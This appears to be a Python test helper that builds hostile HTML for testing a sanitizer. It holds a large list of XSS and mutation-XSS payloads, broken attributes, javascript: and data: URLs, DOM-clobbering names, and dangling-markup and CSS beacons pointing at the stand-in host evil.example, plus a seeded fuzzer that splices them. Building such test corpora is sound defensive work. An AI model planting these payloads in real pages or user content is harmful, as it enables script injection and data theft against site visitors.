"""Hostile HTML: what is publicly known, mutations of our own, and made ones from a grammar with a fixed seed."""

import random

from tests.payloads import PAYLOADS

SEED = 20_261_128
BAD = "alert(1)"
IMG = f"<img src=x onerror={BAD}>"
SCRIPT = f"<script>{BAD}</script>"
MUTATIONS = [
    # parsed once, something else is found in what was written down
    f"<svg></p><style><a id='</style>{IMG}'>",
    f"<math><mtext><table><mglyph><style><math><img src=x onerror={BAD}></style></mglyph></table></mtext></math>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style>{IMG}'>",
    f"<svg><foreignObject><div><style>{IMG}</style></div></foreignObject></svg>",
    f"<math><annotation-xml encoding='text/html'><div>{IMG}</div></annotation-xml></math>",
    f"<svg><desc><title>{SCRIPT}</title></desc></svg>",
    f"<noscript><p title='</noscript>{IMG}'>",
    f"<noembed><p title='</noembed>{IMG}'></noembed><noframes><p title='</noframes>{IMG}'>",
    f"<template><p>{SCRIPT}</p></template><template shadowrootmode=open>{IMG}</template>",
    f"<div><template shadowroot=open><slot></slot>{SCRIPT}</template></div>",
    f"<textarea><p title='</textarea>{IMG}'>",
    f"<title><p title='</title>{IMG}'>",
    f"<xmp><p title='</xmp>{IMG}'><plaintext>{IMG}",
    f"<style><!--</style>{IMG}--></style>",
    f"<!--><p>{IMG}-->",
    f"<!--!>{IMG}--!>{SCRIPT}",
    f"<!-- --!>{IMG} -->",
    f"<![CDATA[>{IMG}]]>",
    f"<svg><![CDATA[{IMG}]]></svg><math><![CDATA[</math>{IMG}]]>",
    f"<?xml {IMG} ?><?php echo '{SCRIPT}'; ?>",
    f"<!DOCTYPE x [<!ENTITY e '{IMG}'>]>&e;",
    f"<select><style></select>{IMG}</style>",
    f"<table><caption><svg><title></caption>{IMG}</title></svg>",
    f"<option><select><keygen><style>{IMG}",
    f"<ul><li><table><li>{IMG}<td><svg/onload={BAD}>",
    f"<a><a><a href=javascript:{BAD}><table><a>{IMG}",
    f"<p><svg><p><style><p title='</style>{IMG}'>",
    f"&lt;img src=x onerror={BAD}&gt;",
    f"&amp;lt;img src=x onerror={BAD}&amp;gt;&amp;amp;lt;script&amp;amp;gt;{BAD}",
    f"&#60;script&#62;{BAD}&#60;/script&#62;&#x3c;img src=x onerror={BAD}&#x3e;",
    f"<p>%3Cscript%3E{BAD}%3C/script%3E\\u003cimg src=x onerror={BAD}\\u003e",
    # attributes that are broken
    f"<img src=x onerror\n=\n{BAD}>",
    f"<img/src=x/onerror={BAD}//",
    f"<img src='x\"onerror={BAD} y='>",
    f'<img title="a\'onerror={BAD} src=x" alt=`onerror={BAD}`>',
    f"<img src=x \x00onerror={BAD}><img src=x on\x00error={BAD}>",
    f"<img src=x onerror\x0b={BAD}><img\x0csrc=x\x0conerror={BAD}>",
    f"<p title='--><{SCRIPT}'>x<p lang='x\" onmouseover={BAD}'>y",
    f'<a title="" onfocus={BAD} autofocus tabindex=1 contenteditable>x</a>',
    f'<div ="><img src=x onerror={BAD}>">x</div>',
    f"<div/{IMG}/>",
    # addresses
    *(
        f"<a href='{address}'>x</a><img src='{address}'><q cite='{address}'>y</q>"
        for address in (
            f"javascript:{BAD}",
            f"java&Tab;script:{BAD}",
            f"java&NewLine;script&colon;{BAD}",
            f"&#1;javascript:{BAD}",
            f"JaVaScRiPt://%0a{BAD}",
            f"javascript&#0000058{BAD}",
            f"data:text/html,{SCRIPT}",
            f"data:image/svg+xml,<svg onload={BAD}>",
            f"vbscript:{BAD}",
            f"feed:javascript:{BAD}",
            f"view-source:javascript:{BAD}",
            f"blob:null/{BAD}",
            f"\u2028javascript:{BAD}",
            "//evil.example/a.png",
            "/\\evil.example/a.png",
            "/&#9;/evil.example/a.png",
            "&#1;//evil.example/a.png",
            "https:/\\evil.example/",
            "\\\\evil.example\\a.png",
            "http:\\\\evil.example",
            "file:///etc/passwd",
            "intent://x#Intent;S.browser_fallback_url=x;end",
        )
    ),
    f"<img srcset='x 1x, javascript:{BAD} 2x, https://evil.example/a.png 3x' src=x>",
    f"<picture><source srcset=https://evil.example/a.png><img src=x onerror={BAD}></picture>",
    f"<video poster=javascript:{BAD} src=https://evil.example/a.mp4 autoplay onloadstart={BAD}><source onerror={BAD}></video>",
    f"<audio src=x onerror={BAD} autoplay><track default src=https://evil.example/t.vtt oncuechange={BAD}></audio>",
    "<a href=/x ping=https://evil.example/ download target=_blank attributionsrc=https://evil.example/>x</a>",
    f"<form action=https://evil.example/><input name=q autofocus onfocus={BAD}><button formaction=javascript:{BAD}>x</button></form>",
    f"<button form=f formaction=javascript:{BAD}>x</button><isindex type=image src=x onerror={BAD}>",
    f"<svg><a xlink:href=javascript:{BAD}><text y=20>x</text></a><use xlink:href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{BAD}</script></svg>#x\"/></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{BAD} /><a id=x><text>y</text></a></svg>",
    f"<svg><set attributeName=onload to={BAD}><animate onbegin={BAD} attributeName=x dur=1s></svg>",
    f"<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>{BAD}</handler></svg>",
    f"<object data=javascript:{BAD}></object><embed src=javascript:{BAD}><applet code={BAD}></applet>",
    f"<iframe src=javascript:{BAD}></iframe><iframe srcdoc='{SCRIPT}'></iframe><portal src=https://evil.example>",
    f"<frameset onload={BAD}><frame src=javascript:{BAD}></frameset>",
    f"<meta http-equiv=refresh content='0;url=javascript:{BAD}'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><base target=_blank><link rel=stylesheet href=https://evil.example/a.css>",
    f"<link rel=import href='data:text/html,{SCRIPT}'><link rel=preload as=script href=https://evil.example/a.js>",
    # styles
    f"<p style=\"background:url('https://evil.example/a.png');width:expression({BAD});-moz-binding:url(x);behavior:url(x)\">x</p>",
    "<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/a.png)}</style>",
    "<p style='position:fixed;inset:0;z-index:9999;background:red'>over all</p>",
    "<font color='red' face='x;background:url(https://evil.example/)'>x</font><td background=https://evil.example/a.png>y",
    # markup left open, to swallow what comes after it
    "<img src='https://evil.example/?",
    '<a href="https://evil.example/?',
    "<textarea>",
    "<!--",
    "<plaintext>",
    "<style>",
    "<script>",
    "<table><tr><td",
    "<p title='",
    "<iframe src='https://evil.example/?",
    "<select><option>",
    # names that scripts of the page might look up
    "".join(
        f"<a id={name} name={name} href=/x>x</a>"
        for name in (
            "body",
            "forms",
            "cookie",
            "location",
            "post_form",
            "id_body",
            "theme",
            "csrfmiddlewaretoken",
        )
    ),
    "<form id=post_form name=body><input name=attributes><input id=id_body name=nodeName></form><img name=getElementById><img name=currentScript>",
    f"<x-y is=x-y onclick={BAD}>x</x-y><p is=evil-element slot=x part=y exportparts=z>w</p>",
    f"<a href=/x data-frame=javascript:{BAD} data-confirm=x data-deed=delete data-embed=javascript:{BAD} hx-get=/x x-on:click={BAD}>x</a>",
    f'<figure class=embed data-provider=youtube data-embed=javascript:{BAD}><a href="https://youtu.be/abcdefg&quot;onload={BAD}">x</a></figure>',
    f"<figure class='embed'><a href=\"https://www.youtube.com/watch?v=abcdefg\">{SCRIPT}</a><figcaption>{IMG}</figcaption></figure>",
    f"<figure class=audio><a href='/media/a.mp3&quot; onerror={BAD} x=&quot;'>x</a></figure>",
    f"<span class=footnote>{IMG}<span class=footnote>{SCRIPT}</span></span>",
    f"<img data-image=7 src=/media/x.jpg alt='\" onerror={BAD} x=\"'>",
    f"[caption]<img src=x onerror={BAD}>[/caption][embed]javascript:{BAD}[/embed][gallery ids='1\"{IMG}']",
    f'<!-- wp:html -->{SCRIPT}<!-- /wp:html --><!-- wp:embed {{"url":"javascript:{BAD}"}} -->x<!-- /wp:embed -->',
    f'[x](javascript:{BAD}) ![x](x"onerror={BAD}) <javascript:{BAD}> [x]: javascript:{BAD}',
    f"{{{{<figure src='x' onerror={BAD}>}}}} {{% raw %}}{SCRIPT}{{% endraw %}}",
    "<div>" * 600 + IMG + "</div>" * 600,
    "<b><i><a><p>" * 150 + IMG,
    f"\ufeff\u202e\u2066<\u200bscript>{BAD}</\u200bscript>＜script＞{BAD}＜/script＞",
    f"+ADw-script+AD4-{BAD}+ADw-/script+AD4- \x1b$B{SCRIPT}\x1b(B",
    f"<scr<script>ipt>{BAD}</scr</script>ipt><<script>{BAD}//<</script>",
]
TAGS = str.split(
    "a p div span b i table tr td th caption select option svg math mtext mi mglyph malignmark style title textarea noscript template "
    "xmp iframe form button input img image video audio object embed foreignObject desc annotation-xml script plaintext ul li dl dd "
    "figure figcaption blockquote pre h1 h4 font nobr center frameset body html head br hr q time abbr bdo del ruby rt details summary"
)
NAMES = str.split(
    "href src title alt class id name style lang dir data-embed data-image data-provider cite xlink:href srcdoc action is"
)
VALUES = [
    f"javascript:{BAD}",
    "https://evil.example/x",
    "//evil.example",
    "x",
    "",
    f'"><{IMG}',
    f"'{IMG}",
    "embed",
    "footnote",
    "7",
    "&quot;&gt;" + IMG,
    f"</style>{IMG}",
]
EVENTS = str.split("onerror onload onclick onfocus ontoggle onbegin onanimationstart onpointerenter")
LOOSE = [
    IMG,
    SCRIPT,
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[",
    "&lt;",
    "&",
    "text",
    "\x00",
    "\u2028",
    "</p>",
    "<br>",
    "<p",
    "</",
    "'\"`",
    "\n\n",
]


def made(count, seed=SEED):
    """So many pieces of markup, nested, cut and spliced as nobody would write them."""
    chance = random.Random(seed)
    known = [*MUTATIONS, *PAYLOADS]
    for _ in range(count):
        text = "".join(piece(chance, 0) for _ in range(chance.randint(1, 4)))
        if chance.random() < 0.3:
            other = chance.choice(known)
            at, start = chance.randint(0, len(text)), chance.randint(0, len(other))
            text = text[:at] + other[start : start + 300] + text[at:]
        if chance.random() < 0.2:
            at = chance.randint(0, len(text))
            text = text[:at] + text[at + chance.randint(1, 5) :]
        yield text


def piece(chance, depth):
    if depth > 6 or chance.random() < 0.25:
        return chance.choice(LOOSE)
    tag = chance.choice(TAGS)
    attributes = "".join(attribute(chance) for _ in range(chance.randint(0, 3)))
    inside = "".join(piece(chance, depth + 1) for _ in range(chance.randint(0, 3)))
    end = f"</{tag}>" if chance.random() < 0.7 else ""
    return f"<{tag}{attributes}{chance.choice(['>', '>', '>', '/>'])}{inside}{end}"


def attribute(chance):
    quote = chance.choice(['"', "'", ""])
    if chance.random() < 0.3:
        return f" {chance.choice(EVENTS)}={quote}{BAD}{quote}"
    return f"{chance.choice([' ', '/', chr(12)])}{chance.choice(NAMES)}={quote}{chance.choice(VALUES)}{quote}"


def everything(count):
    """All of it, each once, without what stands in no page (lone surrogates)."""
    texts = [*PAYLOADS, *MUTATIONS, *made(count)]
    return list(dict.fromkeys(text.encode(errors="ignore").decode() for text in texts))
